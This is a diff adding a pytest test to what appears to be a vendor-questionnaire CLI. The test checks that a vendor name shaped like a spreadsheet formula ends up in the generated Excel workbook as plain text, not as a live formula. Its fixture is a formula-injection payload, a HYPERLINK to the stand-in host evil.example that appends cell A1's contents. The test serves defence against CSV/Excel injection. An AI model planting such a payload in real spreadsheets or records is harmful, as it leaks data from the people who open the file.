@@ -403,3 +403,28 @@ def test_a_document_is_limited_in_the_workbooks_last_column(cli, workspace, tmp_
         f"q.xlsx!Evidence!{column}{soc2_row}: 'soc2.txt' is limited to SEC-GOV-99, which does "
         "not ask for a document of its kind" in " ".join(result.output.split())
     )
+
+
+def test_a_name_that_looks_like_a_formula_stays_text(cli, workspace, tmp_path: Path) -> None:
+    """openpyxl stores text starting with `=` as a formula: a vendor (or organisation) named
+    like one would run in the officer's or the vendor's Excel. Only our own counters do."""
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    register = (EXAMPLES / "vendors.yaml").read_text()
+    register = register.replace("name: Brightside Creative Marketing Ltd", f"name: '{hostile}'")
+    (tmp_path / "v.yaml").write_text(register)
+    assert cli("vendors", "import", tmp_path / "v.yaml").exit_code == 0
+    path = tmp_path / "q.xlsx"
+    assert cli("questionnaire", "issue", "brightside-marketing", "-o", path).exit_code == 0
+    book = load_workbook(path)
+    formulas = [
+        (sheet.title, cell.value)
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas and all(
+        title == "Instructions" and str(value).startswith("=COUNTIFS(") for title, value in formulas
+    ), formulas
+    texts = [c.value for s in book.worksheets for r in s.iter_rows() for c in r]
+    assert any(hostile in str(value) for value in texts)
